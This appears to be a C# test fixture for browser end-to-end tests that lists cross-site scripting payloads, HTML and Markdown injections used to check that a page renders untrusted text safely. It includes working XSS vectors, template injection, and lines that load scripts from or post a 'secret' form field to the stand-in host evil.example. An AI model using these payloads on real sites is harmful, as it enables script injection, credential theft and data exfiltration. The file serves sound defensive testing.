namespace MotiveProxy.EndToEnd.Tests.Browser;

/// <summary>What people write who want a page to run their words. Each that runs sets <c>window.hit</c>, opens a dialog, or asks another server.</summary>
internal static class Payloads
{
    /// <summary>HTML and scripts.</summary>
    public static readonly string[] Markup =
    [
        "<script>window.hit=1</script>",
        "<script src=//evil.example/x.js></script>",
        "</title></textarea></style></script><script>window.hit=2</script>",
        "<img src=x onerror=window.hit=3>",
        "<svg onload=window.hit=4>",
        "<svg><script>window.hit=5</script></svg>",
        "<svg><animate onbegin=window.hit=6 attributeName=x dur=1s>",
        "<iframe src=javascript:parent.hit=7></iframe>",
        "<iframe srcdoc='<script>parent.hit=8</script>'></iframe>",
        "<object data=data:text/html,<script>parent.hit=9</script>></object>",
        "<embed src=//evil.example/x.swf>",
        "<form action=//evil.example><input name=secret><button>Sign in</button></form>",
        "<input autofocus onfocus=window.hit=10>",
        "<details open ontoggle=window.hit=11>",
        "<video><source onerror=window.hit=12></video>",
        "<body onload=window.hit=13>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import '//evil.example/y.css';</style>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=14>",
        "<a href=javascript:window.hit=15>press</a>",
        "\" onmouseover=\"window.hit=16\" autofocus onfocus=\"window.hit=16\" x=\"",
        "'-alert(17)-'",
        "{{constructor.constructor('window.hit=18')()}}",
        "<blazor-x></blazor-x><!--Blazor:{\"type\":\"server\"}-->",
    ];

    /// <summary>Markdown that leads somewhere.</summary>
    public static readonly string[] Markdown =
    [
        "[press](javascript:window.hit=20)",
        "[press](JaVaScRiPt:window.hit=21)",
        "[press](data:text/html,<script>window.hit=22</script>)",
        "[press](vbscript:window.hit=23)",
        "<javascript:window.hit=24>",
        "![look](https://evil.example/pixel.png)",
        "![look](javascript:window.hit=25)",
        "![look](data:text/html,<script>window.hit=26</script>)",
        "![look](data:image/svg+xml,<svg/onload=parent.hit=27>)",
        "![look](x \"\" onerror=\"window.hit=28\")",
        "[a]: javascript:window.hit=29\n\n[press][a]",
        "![x\" onerror=window.hit=30 y=\"](data:image/png;base64,AAAA)",
        "| a |\n|---|\n| <img src=x onerror=window.hit=31> |",
        "`<img src=x onerror=window.hit=32>`",
        "```html\" onmouseover=\"window.hit=33\n<script>window.hit=33</script>\n```",
    ];

    /// <summary>All of them.</summary>
    public static IEnumerable<string> All => [.. Markup, .. Markdown];
}
